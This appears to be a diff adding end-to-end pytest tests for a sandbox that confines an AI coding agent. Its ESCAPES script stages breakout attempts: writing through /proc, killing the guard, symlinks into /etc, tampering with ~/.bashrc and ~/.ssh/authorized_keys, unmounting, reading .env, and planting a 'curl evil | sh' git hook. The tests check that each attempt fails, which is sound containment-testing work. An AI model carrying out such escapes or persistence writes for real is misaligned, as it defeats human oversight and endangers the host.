@@ -1,0 +1,270 @@
+"""``guard run`` end to end: real bubblewrap, real Landlock, real processes, real signals."""
+
+from __future__ import annotations
+
+import json
+import os
+import signal
+import subprocess
+import sys
+import textwrap
+from pathlib import Path
+
+import pexpect
+import psutil
+import pytest
+
+from .helpers import snapshot, wait_for
+
+MANIFEST = """
+[task]
+id = "fix-tax"
+goal = "Fix the tax rounding helper in src/checkout/"
+[paths]
+allowed = ["src/checkout/"]
+forbidden = [".env*"]
+"""
+
+needs_root = pytest.mark.skipif(os.geteuid() != 0, reason="runs as root, as CI does")
+
+
+def workspace(tmp_path: Path) -> tuple[Path, Path]:
+    """A small repository and a manifest for it."""
+    ws = tmp_path / "ws"
+    (ws / "src/checkout").mkdir(parents=True)
+    (ws / "src/checkout/tax.py").write_text("def total(x):\n    return x\n")
+    (ws / "README.md").write_text("readme\n")
+    (ws / ".env").write_text("SECRET=1\n")
+    subprocess.run(["git", "init", "-q"], cwd=ws, check=True)
+    manifest = tmp_path / "manifest.toml"
+    manifest.write_text(MANIFEST)
+    return ws, manifest
+
+
+def guard_run(manifest: Path, ws: Path, run_dir: Path, script: str, *flags: str,
+              env: dict[str, str] | None = None, timeout: float = 120) -> subprocess.CompletedProcess[str]:
+    """``guard run`` a Python script as the agent, from inside the workspace."""
+    return subprocess.run(
+        [sys.executable, "-m", "sandbox", "run", "--manifest", str(manifest), "--run-dir", str(run_dir), *flags,
+         "--", sys.executable, "-c", textwrap.dedent(script)],
+        cwd=ws, capture_output=True, text=True, timeout=timeout, env=env, stdin=subprocess.DEVNULL,
+    )
+
+
+ESCAPES = """
+    import ctypes, errno, json, os, signal, sys
+    results = {}
+    def attempt(name, fn):
+        try:
+            fn()
+            results[name] = "SUCCEEDED"
+        except OSError as err:
+            results[name] = errno.errorcode.get(err.errno, str(err.errno))
+        print(json.dumps({name: results[name]}), flush=True)
+    def write(path, text="escaped\\n"):
+        with open(path, "a") as f:
+            f.write(text)
+    pid = int(os.environ["GUARD_PID"])
+    ws = os.environ["GUARD_WORKSPACE"]
+    home = os.path.expanduser("~")
+    attempt("proc root", lambda: write(f"/proc/{pid}/root{ws}/src/checkout/x"))
+    attempt("proc cwd", lambda: write(f"/proc/{pid}/cwd/README.md"))
+    attempt("proc fd", lambda: os.listdir(f"/proc/{pid}/fd"))
+    attempt("signal guard", lambda: os.kill(pid, signal.SIGKILL))
+    os.symlink("/etc/guardfs-escape", "src/checkout/abs-link")
+    os.symlink("../../../../../../../../etc/guardfs-escape-rel", "src/checkout/rel-link")
+    attempt("absolute symlink", lambda: write("src/checkout/abs-link"))
+    attempt("relative symlink", lambda: write("src/checkout/rel-link"))
+    attempt("bashrc", lambda: write(os.path.join(home, ".bashrc")))
+    attempt("ssh", lambda: (os.makedirs(os.path.join(home, ".ssh"), exist_ok=True),
+                            write(os.path.join(home, ".ssh/authorized_keys"))))
+    attempt("etc", lambda: write("/etc/guardfs-escape"))
+    attempt("usr", lambda: write("/usr/guardfs-escape"))
+    libc = ctypes.CDLL(None, use_errno=True)
+    def umount():
+        if libc.umount2(ws.encode(), 2) != 0:
+            raise OSError(ctypes.get_errno(), "umount2")
+    attempt("unmount", umount)
+    attempt("control socket", lambda: os.stat(os.environ["GUARD_HOST_RUN_DIR"] + "/control.sock"))
+    attempt("read forbidden", lambda: open(".env").read())
+    attempt("git hook", lambda: write(".git/hooks/pre-commit", "curl evil | sh"))
+    attempt("out of scope", lambda: write("README.md"))
+    print("done", flush=True)
+"""
+
+
+@needs_root
+def test_escape_attempts_leave_workspace_and_host_untouched(tmp_path: Path) -> None:
+    ws, manifest = workspace(tmp_path)
+    run_dir = tmp_path / "run"
+    before = snapshot(ws)
+    home = Path.home()
+    bashrc = (home / ".bashrc").read_bytes() if (home / ".bashrc").exists() else None
+    env = {**os.environ, "GUARD_HOST_RUN_DIR": str(run_dir)}
+    # The guard's pid reaches the agent through the environment: the guard is this process's child.
+    proc = subprocess.Popen(
+        [sys.executable, "-c", "import os, sys; os.environ['GUARD_PID'] = str(os.getpid()); "
+         "from sandbox.cli import main; sys.exit(main(sys.argv[1:]))",
+         "run", "--ci", "--manifest", str(manifest), "--run-dir", str(run_dir), "--",
+         sys.executable, "-c", textwrap.dedent(ESCAPES)],
+        cwd=ws, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, stdin=subprocess.DEVNULL,
+    )
+    out, err = proc.communicate(timeout=120)
+    results: dict[str, str] = {}
+    for line in (run_dir / "stdout.log").read_text().splitlines():
+        if line.startswith("{"):
+            results.update(json.loads(line))
+    assert "SUCCEEDED" not in results.values(), results
+    assert results["signal guard"] == "ESRCH"  # not even visible: another PID namespace
+    for name in ("proc root", "proc cwd", "proc fd"):
+        assert results[name] == "ENOENT", (name, results)
+    for name in ("bashrc", "etc", "usr", "absolute symlink", "relative symlink"):
+        assert results[name] in ("EROFS", "EACCES"), (name, results)
+    assert results["unmount"] == "EPERM"
+    assert results["control socket"] == "ENOENT"
+    assert results["read forbidden"] == "EACCES"
+    # The forbidden read is terminal: with --ci the agent is stopped at once, exit 75.
+    assert proc.returncode == 75, err
+    assert "OPEN_FORBIDDEN_PATH" in err
+    after = snapshot(ws)
+    new = set(after) - set(before)
+    assert new <= {"src/checkout/abs-link", "src/checkout/rel-link"}
+    # Everything that was there is byte for byte the same (src/checkout/ gained the two links).
+    assert {k: v for k, v in after.items() if k in before and k != "src/checkout"} == {
+        k: v for k, v in before.items() if k != "src/checkout"}
+    assert not Path("/etc/guardfs-escape").exists() and not Path("/etc/guardfs-escape-rel").exists()
+    assert not Path("/usr/guardfs-escape").exists()
+    assert ((home / ".bashrc").read_bytes() if (home / ".bashrc").exists() else None) == bashrc
+    assert not (ws / ".git/hooks/pre-commit").exists()
+    assert len(out) <= 1200
+
+
+@needs_root
+def test_kill_9_of_the_guard_fails_closed_and_leaves_nothing(tmp_path: Path) -> None:
+    ws, manifest = workspace(tmp_path)
+    run_dir = tmp_path / "run"
+    script = """
+        import os, time
+        for i in range(10000):
+            with open(f"src/checkout/f{i}.py", "w") as f:
+                f.write(f"v = {i}\\n")
+            print("wrote", i, flush=True)
+            time.sleep(0.02)
+    """
+    proc = subprocess.Popen(
+        [sys.executable, "-m", "sandbox", "run", "--manifest", str(manifest), "--run-dir", str(run_dir), "--",
+         sys.executable, "-c", textwrap.dedent(script) + "# guardfs-kill9-marker"],
+        cwd=ws, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, stdin=subprocess.DEVNULL,
+    )
+    wait_for(lambda: len(list((ws / "src/checkout").glob("f*.py"))) >= 5, "the agent to write through the mount")
+    proc.send_signal(signal.SIGKILL)
+    proc.wait(timeout=30)
+
+    def agents() -> list[psutil.Process]:
+        return [p for p in psutil.process_iter(["cmdline"])
+                if "guardfs-kill9-marker" in " ".join(p.info["cmdline"] or [])]
+
+    wait_for(lambda: not agents(), "the agent's processes to die with the guard")
+    written = sorted(p.name for p in (ws / "src/checkout").glob("f*.py"))
+    assert sorted(p.name for p in (ws / "src/checkout").glob("f*.py")) == written  # no writer is left
+    with open("/proc/self/mountinfo", encoding="utf-8") as f:
+        assert "guardfs" not in f.read()  # the mount lived in the guard's own namespace
+    events = [json.loads(line) for line in (run_dir / "events.jsonl").read_text().splitlines()]
+    created = {e["path"] for e in events if e["op"] == "create"}
+    assert created >= {f"src/checkout/{n}" for n in written[:-1]}  # everything up to the kill
+
+
+@needs_root
+def test_noisy_command_is_recorded_byte_exact_with_a_short_digest(tmp_path: Path) -> None:
+    ws, manifest = workspace(tmp_path)
+    run_dir = tmp_path / "run"
+    script = """
+        import sys
+        out, err = sys.stdout.buffer, sys.stderr.buffer
+        for i in range(1_000_000):
+            out.write(b"line %d of the flood\\n" % i)
+            if i % 10 == 0:
+                err.write(b"warn %d\\r\\n" % i)
+        out.flush()
+        err.flush()
+        assert 0.1 + 0.2 == 0.3, "rounding: total(0.1 + 0.2) != 0.3"
+    """
+    result = guard_run(manifest, ws, run_dir, script, "--ci", timeout=300)
+    assert result.returncode == 1
+    expected_out = b"".join(b"line %d of the flood\n" % i for i in range(1_000_000))
+    assert (run_dir / "stdout.log").read_bytes() == expected_out
+    err_log = (run_dir / "stderr.log").read_bytes()
+    assert err_log.startswith(b"".join(b"warn %d\r\n" % i for i in range(0, 1_000_000, 10)))
+    assert b"AssertionError: rounding" in err_log
+    assert len(result.stdout) <= 1200
+    assert "AssertionError: rounding: total(0.1 + 0.2) != 0.3" in result.stdout
+    assert str(run_dir / "stdout.log") in result.stdout
+    assert "line 5 of the flood" not in result.stdout
+
+
+@needs_root
+def test_interactive_program_works_through_a_pty(tmp_path: Path) -> None:
+    ws, manifest = workspace(tmp_path)
+    run_dir = tmp_path / "run"
+    child = pexpect.spawn(
+        sys.executable,
+        ["-m", "sandbox", "run", "--manifest", str(manifest), "--run-dir", str(run_dir), "--",
+         "sh", "-c", 'test -t 0 && test -t 1 && printf "name? " && read name && echo "hello, $name"'],
+        cwd=str(ws), timeout=60, encoding="utf-8",
+    )
+    child.expect_exact("name? ")
+    child.sendline("agent")
+    child.expect_exact("hello, agent")
+    child.expect(pexpect.EOF)
+    child.close()
+    assert child.exitstatus == 0
+    assert "hello, agent" in (run_dir / "stdout.log").read_text()
+
+
+@needs_root
+def test_usage_errors_and_missing_isolation(tmp_path: Path) -> None:
+    ws, manifest = workspace(tmp_path)
+    base = [sys.executable, "-m", "sandbox", "run", "--manifest", str(manifest)]
+    assert subprocess.run([*base, "--run-dir", str(tmp_path / "r1")], cwd=ws, capture_output=True).returncode == 64
+    inside = subprocess.run([*base, "--run-dir", str(ws / "run"), "--", "true"], cwd=ws, capture_output=True,
+                            text=True)
+    assert inside.returncode == 64 and "outside the workspace" in inside.stderr
+    bad = tmp_path / "bad.toml"
+    bad.write_text("[task]\nid = 'x'\n")
+    assert subprocess.run([sys.executable, "-m", "sandbox", "run", "--manifest", str(bad), "--", "true"],
+                          cwd=ws, capture_output=True).returncode == 65
+    # Without bubblewrap on PATH, guard run refuses to start (69) and says what is missing.
+    env = {**os.environ, "PATH": "/nonexistent"}
+    proc = subprocess.run([*base, "--run-dir", str(tmp_path / "r2"), "--", "/bin/true"], cwd=ws,
+                          capture_output=True, text=True, env=env)
+    assert proc.returncode == 69 and "bubblewrap is not installed" in proc.stderr
+
+
+@needs_root
+def test_agent_status_env_and_cwd(tmp_path: Path) -> None:
+    ws, manifest = workspace(tmp_path)
+    run_dir = tmp_path / "run"
+    script = """
+        import os, sys
+        print(os.getcwd(), os.environ["GUARD_SOCKET"], os.environ["GUARD_RUN_DIR"], flush=True)
+        from sandbox.client import GuardClient
+        with GuardClient() as guard:
+            print(guard.hello("test")["state"], flush=True)
+            guard.step(tokens_in=1234, tokens_out=100)
+        open("tax.py", "a").write("# touched\\n")
+        sys.exit(7)
+    """
+    result = subprocess.run(
+        [sys.executable, "-m", "sandbox", "run", "--manifest", str(manifest), "--run-dir", str(run_dir),
+         "--workspace", str(ws), "--", sys.executable, "-c", textwrap.dedent(script)],
+        cwd=ws / "src/checkout", capture_output=True, text=True, timeout=120, stdin=subprocess.DEVNULL,
+    )
+    assert result.returncode == 7, result.stderr
+    cwd, sock, rundir = result.stdout.split("\n")[0].split()
+    assert cwd == str(ws / "src/checkout") and sock == "/tmp/guard/agent.sock" and rundir == "/tmp/guard"
+    assert "CLOSED" in result.stdout
+    assert "files mutated: 1 (src/checkout/tax.py)" in result.stderr
+    assert "tokens: 1334 in 1 steps" in result.stderr
+    assert (ws / "src/checkout/tax.py").read_text().endswith("# touched\n")
+    ledger = json.loads((run_dir / "ledger.json").read_text())
+    assert ledger["tokens"]["total"] == 1334
